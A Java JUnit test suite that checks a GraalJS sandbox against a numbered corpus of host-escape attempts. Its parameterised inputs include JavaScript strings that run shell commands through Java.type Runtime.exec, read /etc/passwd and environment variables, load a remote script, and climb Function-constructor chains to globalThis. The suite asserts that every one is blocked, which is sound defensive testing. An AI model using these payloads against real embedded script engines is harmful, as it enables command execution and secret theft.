package dev.codemode.executor.graaljs;

import java.time.Duration;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import dev.codemode.executor.BothIsolations;
import dev.codemode.executor.ExecutionResult;

import static dev.codemode.executor.graaljs.JavaFree.assertJavaFree;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * Attack corpus, section A: reaching the host through GraalJS-specific globals and
 * interop.
 */
@BothIsolations
class HostEscapeTests extends SandboxTestSupport {

	static final Duration BOUND = T.plusSeconds(1);

	static Stream<Arguments> hostGlobals() {
		return Stream.of(arguments("A1", "Java.type('java.lang.Runtime').getRuntime().exec('id')", "Java"),
				arguments("A3", "String(Packages.java.lang.System)", "Packages"),
				arguments("A4", "Polyglot.eval('js','1+1')", "Polyglot"),
				arguments("A4", "Polyglot.import('x')", "Polyglot"),
				arguments("A4", "Polyglot.evalFile('js','/etc/passwd')", "Polyglot"),
				arguments("A6", "load('https://example.com/x.js')", "load"),
				arguments("A7", "loadWithNewGlobal({name:'x.js', script:'typeof codemode'})", "loadWithNewGlobal"),
				arguments("A7", "load({name:'x.js', script:'1+1'})", "load"),
				arguments("A16", "Java.type('java.lang.System').getenv()", "Java"), arguments("A19", "quit()", "quit"),
				arguments("A19", "exit()", "exit"));
	}

	@ParameterizedTest(name = "{0}: {1}")
	@MethodSource("hostGlobals")
	void hostAndShellGlobalsAreNotDefined(String row, String code, String global) {
		ExecutionResult result = attack(code, BOUND);
		assertError(result, "ReferenceError", global + " is not defined");
		assertJavaFree(result);
		// A4: no file content; A16: no environment value.
		assertThat(result.error().message()).doesNotContain("root:");
		String path = System.getenv("PATH");
		if (path != null) {
			assertThat(result.error().message()).doesNotContain(path);
		}
	}

	@Test
	void packageGlobalsDoNotExist() {
		ExecutionResult result = attack(
				"async () => ['Packages','java','javax','com','org','edu'].map(k => typeof globalThis[k])", BOUND);
		assertResult(result, "[\"undefined\",\"undefined\",\"undefined\",\"undefined\",\"undefined\",\"undefined\"]");
	}

	@Test
	void javaIsNeverDefined() {
		// Point 3 of the corpus: host class lookup is never enabled, so Java never
		// appears.
		assertResult(attack("typeof Java + '/' + typeof Polyglot + '/' + typeof Graal + '/' + typeof print", BOUND),
				"\"undefined/undefined/undefined/undefined\"");
	}

	static Stream<Arguments> constructorChains() {
		return Stream.of(
				arguments("A9", "this.constructor.constructor('return typeof Java + \"/\" + typeof process')()"),
				arguments("A10", "codemode.echo.constructor('return typeof Java')()"), arguments("A21",
						"(async()=>{}).constructor('return 1')().constructor.constructor('return globalThis')() === globalThis"));
	}

	@ParameterizedTest(name = "{0}: {1}")
	@MethodSource("constructorChains")
	void functionConstructorChainsAreRefusedByDefault(String row, String code) {
		ExecutionResult result = attack(code, BOUND);
		assertThat(result.error()).isNotNull();
		// A9 allows a TypeError where `this` is undefined at the top of the program.
		assertThat(result.error().kind()).isIn("EvalError", "A9".equals(row) ? "TypeError" : "EvalError");
		assertJavaFree(result);
	}

	@Test
	void globalFunctionConstructorFindsNoJavaWhenEvalIsAllowed() {
		ExecutionResult result = attackWithEval(
				"(function () { return this.constructor.constructor('return typeof Java + \"/\" + typeof process')() })"
						+ ".call(globalThis)",
				BOUND);
		assertThat(result.error()).isNull();
		assertThat(result.resultJson()).isIn("\"undefined/undefined\"", "\"undefined/object\"");
	}

	@Test
	void topLevelThisChainFindsNoJavaWhenEvalIsAllowed() {
		// A9 as written: `this` at the top of the program is whatever the wrapper makes
		// it.
		ExecutionResult result = attackWithEval(
				"this.constructor.constructor('return typeof Java + \"/\" + typeof process')()", BOUND);
		if (result.error() != null) {
			assertThat(result.error().kind()).isEqualTo("TypeError");
		}
		else {
			assertThat(result.resultJson()).startsWith("\"undefined/");
		}
		assertJavaFree(result);
	}

	@Test
	void toolFunctionConstructorIsTheGuestFunction() {
		assertResult(attack("[codemode.echo.constructor === Function, "
				+ "Object.getPrototypeOf(codemode.echo) === Function.prototype]", BOUND), "[true, true]");
		assertResult(attackWithEval("codemode.echo.constructor('return typeof Java')()", BOUND), "\"undefined\"");
	}

	@Test
	void constructorsShareOneRealmWhenEvalIsAllowed() {
		assertResult(attackWithEval("(async()=>{}).constructor('return 1')().constructor"
				+ ".constructor('return globalThis')() === globalThis", BOUND), "true");
	}

	@Test
	void toolBridgeRefusesEveryWrite() {
		// A15 as written: sloppy-mode writes to a frozen object have no effect (the last
		// one evaluates to false).
		ExecutionResult asWritten = attack(
				"codemode.echo = () => 'hijacked'; codemode.newtool = () => 1; delete codemode.fail", BOUND);
		if (asWritten.error() != null) {
			assertThat(asWritten.error().kind()).isEqualTo("TypeError");
		}
		ExecutionResult check = attack("async () => { for (const f of [() => { codemode.echo = () => 'hijacked' }, "
				+ "() => { codemode.newtool = () => 1 }, () => { delete codemode.fail }]) { try { f() } catch (e) {} } "
				+ "return [await codemode.echo({ a: 1 }), typeof codemode.newtool, typeof codemode.fail] }", BOUND);
		assertResult(check, "[{\"a\":1}, \"undefined\", \"function\"]");
		assertThat(this.fixtures.namespace().functions().keySet()).containsExactlyElementsOf(this.fixtures.toolNames());
		assertThat(this.fixtures.echoCalls).hasValue(1);
	}

	@Test
	void strictModeWritesToTheBridgeThrowTypeErrors() {
		assertResult(attack("async () => { 'use strict'; const seen = []; "
				+ "for (const f of [() => { codemode.echo = 1 }, () => { codemode.newtool = 1 }, () => { delete codemode.fail }, "
				+ "() => { Object.defineProperty(codemode, 'x', { value: 1 }) }, () => { Object.setPrototypeOf(codemode, {}) }]) "
				+ "{ try { f(); seen.push('allowed') } catch (e) { seen.push(e instanceof TypeError) } } return seen }",
				BOUND), "[true, true, true, true, true]");
	}

	@Test
	void dynamicImportIsRejected() {
		ExecutionResult result = attack("import('fs').then(m=>typeof m)", BOUND);
		assertThat(result.error()).isNotNull();
		assertThat(result.error().message()).containsAnyOf("fs", "not allowed");
		assertThat(result.resultJson()).isNull();
		assertJavaFree(result);
	}

	@ParameterizedTest(name = "A18: {0}")
	@ValueSource(strings = { "import fs from 'fs'", "import fs from 'fs';\nconst x: number = 1;\nreturn fs" })
	void staticImportIsASyntaxError(String code) {
		// The TypeScript variant: a transpiler that rewrote the import must not make it
		// work.
		ExecutionResult result = attack(code, BOUND);
		assertError(result, "SyntaxError", "not a module");
		assertThat(result.error().line()).isEqualTo(1);
		assertJavaFree(result);
	}

}
